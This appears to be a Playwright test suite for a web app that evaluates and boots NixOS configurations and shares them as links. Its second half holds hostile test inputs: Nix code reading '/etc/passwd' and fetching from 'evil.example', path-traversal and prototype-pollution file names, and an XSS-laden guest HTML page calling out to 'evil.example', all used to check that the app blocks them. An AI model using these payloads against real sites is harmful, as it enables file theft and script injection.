import { spawn, type ChildProcess } from "node:child_process";
import { once } from "node:events";
import { deflateRawSync } from "node:zlib";
import { test as plain, type BrowserContext, type Page } from "@playwright/test";
import { expect, test, visitor, type Terrarium } from "./support.ts";

const sample = "Hello from my own machine";

interface Sent {
  title?: string;
  entry?: string;
  files: { path: string; text: string }[];
  expected?: string | null;
  generations?: string[];
}

/** A link as anybody may make one, without asking the page whether it would. */
function link(sent: Sent): string {
  const whole = { title: "A gift", entry: "configuration.nix", channel: "0", expected: null, generations: [], ...sent };
  return `#1/${deflateRawSync(JSON.stringify(whole)).toString("base64url")}`;
}

const nix = (text: string): Sent["files"] => [{ path: "configuration.nix", text }];
const banner = ({ page }: Terrarium) => page.getByRole("complementary").filter({ hasText: "Back to mine" });

/** Every request that would leave for another place than the page's own; what the policy stops never gets as far as a route. */
async function strangers(context: BrowserContext, origin: string): Promise<string[]> {
  const found: string[] = [];
  await context.route(
    (url) => url.protocol.startsWith("http") && url.origin !== origin,
    (route) => {
      found.push(route.request().url());
      return route.abort();
    },
  );
  return found;
}

test("a link is opened elsewhere, and comes out the same", async ({ terrarium, browser }) => {
  test.setTimeout(180_000);
  const { page } = terrarium;
  await terrarium.open();
  await terrarium.serves(sample);
  await terrarium.edit(sample, "Grown somewhere else");
  await expect.poll(() => terrarium.state("pending.status")).toBe("ready");
  await page.getByRole("banner").getByRole("button", { name: "Share" }).click();
  const field = page.getByRole("textbox", { name: "Link" });
  await expect(field).toHaveValue(/#1\/[\w-]+$/);
  const fragment = new URL(await field.inputValue()).hash;
  const expected = await terrarium.state<string>("evaluation.result.outPath");
  await page.close();

  const context = await browser.newContext();
  const friend = visitor(await context.newPage());
  await test.step("beside what the friend has", async () => {
    await friend.open();
    await friend.serves(sample);
  });
  const own = await friend.state("workspace.id");
  await friend.page.goto(`/${fragment}`);
  await expect(banner(friend)).toContainText("Reproduced: the same store path");
  expect(await friend.state("evaluation.result.outPath")).toBe(expected);
  await test.step("a machine of its own", async () => {
    expect(await friend.state("generations.list.length")).toBe(0);
    await friend.button("Build and boot").click();
    await friend.serves("Grown somewhere else");
  });
  await test.step("the same link again is the same copy", async () => {
    const copy = await friend.state("workspace.id");
    await friend.page.reload();
    await expect(banner(friend)).toContainText("Reproduced");
    expect(await friend.state("workspace.id")).toBe(copy);
  });
  await test.step("back: everything as it was", async () => {
    await friend.button("Back to mine").click();
    await friend.serves(sample);
    expect(await friend.state("workspace.id")).toBe(own);
    await friend.running(1);
    expect(new URL(friend.page.url()).hash).toBe("");
    expect(await friend.state("workspaces.length")).toBe(1);
  });
  await test.step("a damaged one says so, and going back deletes nothing", async () => {
    await friend.page.evaluate((hash) => (location.hash = hash), `${fragment.slice(0, 40)}${fragment.slice(60)}`);
    await expect(friend.page.getByText("This link cannot be opened.")).toBeVisible();
    await expect(banner(friend)).toContainText("The link is damaged");
    await friend.button("Back to mine").click();
    expect(await friend.state("workspace.id")).toBe(own);
    await friend.serves(sample);
  });
  await test.step("a promise that is not kept is seen", async () => {
    const promised = `/nix/store/${"0".repeat(32)}-nixos-system-moss`;
    const files = await friend.state<Sent["files"]>("workspace.files");
    await friend.page.evaluate((hash) => (location.hash = hash), link({ files, expected: promised }));
    await expect(banner(friend)).toContainText("Not the same store path");
    await friend.button("Keep it").click();
    await expect(banner(friend)).toHaveCount(0);
    expect(await friend.state("workspace.kind")).toBe("own");
  });
  await context.close();
});

/** Links whose code reaches for what is not theirs, and what the page says instead. */
const reaching = [
  ["reads a file of the visitor's", 'builtins.readFile "/etc/passwd"', /\/etc\/passwd/],
  ["lists the root", "builtins.readDir /.", /./],
  ["leaves its folder", "import ../../secret.nix", /secret\.nix/],
  ["fetches", 'builtins.fetchurl "https://evil.example/x"', /./],
  ["fetches an archive", 'import (builtins.fetchTarball "https://evil.example/x.tar.gz")', /./],
  ["fetches with git", 'builtins.fetchGit "https://evil.example/x.git"', /./],
  ["recurses for ever", "let f = x: f (x + 1) + 1; in f 0", /stack overflow|recursion/],
  [
    "names a prototype",
    '{ networking.hostName = ({ __proto__ = "x"; }).constructor; }',
    /attribute 'constructor' missing/,
  ],
] as const;

/** Links that are no workspace at all. */
const broken: [string, Sent][] = [
  ["a file called __proto__", { files: [{ path: "__proto__", text: "{}" }], entry: "__proto__" }],
  ["a file called constructor", { files: [...nix("{}"), { path: "constructor", text: "" }] }],
  ["a file outside", { files: [...nix("{}"), { path: "../../etc/passwd", text: "" }] }],
  ["an absolute file", { files: [...nix("{}"), { path: "/etc/passwd", text: "" }] }],
  ["markup for a name", { files: [...nix("{}"), { path: "<img src=x>", text: "" }] }],
  ["no files", { files: [] }],
];

const markup = `</script></title><img src="https://evil.example/t" onerror="window.hacked=1"><script>window.hacked=1</script>`;

/** A page of the guest that tries everything a page can try. */
const guestPage = `<!doctype html>
  <meta http-equiv=refresh content="0; url=https://evil.example/refresh">
  <base href="https://evil.example/">
  <script>top.hacked = 1; fetch("https://evil.example/script")</script>
  <link rel=stylesheet href="https://evil.example/style.css">
  <link rel=prefetch href="https://evil.example/prefetch"><link rel=preconnect href="https://evil.example/">
  <style>@import "https://evil.example/import.css"; body { background: url(https://evil.example/background) }</style>
  <body onload="top.hacked = 1">
  <h1>Trust me</h1>
  <img src="https://evil.example/picture" srcset="https://evil.example/set 2x" onerror="top.hacked = 1">
  <svg onload="top.hacked = 1"><image href="https://evil.example/svg"/></svg>
  <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
  <video poster="https://evil.example/poster" src="https://evil.example/video"></video>
  <form action="https://evil.example/form" target="_top"><button>Send it</button></form>
  <a href="https://evil.example/link" target="_top">Go there</a>
  <a href="javascript:top.hacked=1">Run it</a>`;

const serving = `{ pkgs, ... }: {
  networking.hostName = "trap";
  services.static-web-server = {
    enable = true;
    listen = "[::]:80";
    root = pkgs.writeTextDir "index.html" ''${guestPage}'';
  };
}`;

const hacked = (page: Page) => page.evaluate(() => (globalThis as { hacked?: number }).hacked ?? null);

/** Everything hostile, one after the other, in a browser that already holds work of its own. */
async function attack(page: Page, context: BrowserContext, origin: string): Promise<void> {
  const asked = await strangers(context, origin);
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(String(error)));
  const visit = visitor(page);
  const follow = (hash: string) => page.evaluate((to) => (location.hash = to), hash);
  await page.goto(origin);
  await visit.serves(sample);
  const own = await visit.state("workspace.id");
  const files = await visit.state("workspace.files");

  for (const [name, expression, message] of reaching) {
    await test.step(`a link that ${name}`, async () => {
      await follow(link({ title: `It ${name}`, files: nix(expression) }));
      await expect.poll(() => visit.state("opened.status")).toBe("failed");
      expect(await visit.state("opened.message")).toMatch(message);
      await expect(banner(visit)).toContainText("It does not evaluate here");
      await visit.button("Back to mine").click();
      await expect.poll(() => visit.state("workspace.id")).toBe(own);
    });
  }
  for (const [name, sent] of broken) {
    await test.step(`a link with ${name}`, async () => {
      await follow(link(sent));
      await expect.poll(() => visit.state("opened.status")).toBe("damaged");
      expect(await visit.state("workspace.id")).toBe(own);
      await visit.button("Back to mine").click();
    });
  }
  await test.step("a link that never ends can be left", async () => {
    await follow(
      link({
        files: nix(
          "builtins.foldl' (a: b: builtins.foldl' (c: d: c) a (builtins.genList (x: x) 1000)) 0 (builtins.genList (x: x) 1000000)",
        ),
      }),
    );
    await expect.poll(() => visit.state("evaluation.runningSince")).not.toBeNull();
    await page.getByRole("button", { name: "Stop", exact: true }).first().click();
    await expect(banner(visit)).toContainText("It does not evaluate here");
    await visit.button("Back to mine").click();
  });
  await test.step("a guest page with everything", async () => {
    await follow(link({ title: markup, files: nix(serving), generations: [markup, markup] }));
    await expect(banner(visit)).toContainText("</script></title>");
    await visit.button("Build and boot").click();
    await visit.serves("Trust me");
    const frame = page.getByRole("region", { name: "The machine" }).frameLocator("iframe");
    const here = page.url();
    await frame.getByRole("button", { name: "Send it" }).click();
    await frame.getByRole("link", { name: "Go there" }).click();
    await frame.getByRole("link", { name: "Run it" }).click();
    await visit.serves("Trust me");
    expect(page.url()).toBe(here);
    expect(context.pages()).toHaveLength(1);
  });
  await test.step("nothing of it arrived", async () => {
    expect(await hacked(page)).toBeNull();
    expect(asked).toEqual([]);
    expect(errors).toEqual([]);
    await visit.button("Back to mine").click();
    await visit.serves(sample);
    expect(await visit.state("workspace.id")).toBe(own);
    expect(await visit.state("workspace.files")).toEqual(files);
  });
}

plain("a hostile link, on a host that sends headers", async ({ page, context, baseURL }) => {
  plain.setTimeout(240_000);
  await attack(page, context, new URL(baseURL ?? "").origin);
});

plain.describe("on a host that sends no headers", () => {
  let server: ChildProcess | undefined;
  let origin = "";
  plain.beforeAll(async () => {
    server = spawn(process.execPath, ["scripts/serve.mjs", "--bare", "--port", "0"], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    const [line] = (await once(server.stdout as NodeJS.ReadableStream, "data")) as [Buffer];
    origin = new URL(line.toString().trim()).origin;
  });
  plain.afterAll(() => {
    server?.kill();
  });
  plain("a hostile link", async ({ page, context }) => {
    plain.setTimeout(240_000);
    await attack(page, context, origin);
  });
});
